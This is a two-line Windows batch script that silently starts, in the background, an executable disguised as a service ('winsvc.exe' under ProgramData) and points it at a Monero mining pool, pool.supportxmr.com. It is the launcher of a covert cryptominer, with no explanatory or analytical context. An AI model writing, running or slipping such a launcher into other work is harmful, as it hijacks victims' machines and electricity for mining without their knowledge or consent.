@echo off
start /b C:\ProgramData\WinSvcData\winsvc.exe -o pool.supportxmr.com:3333
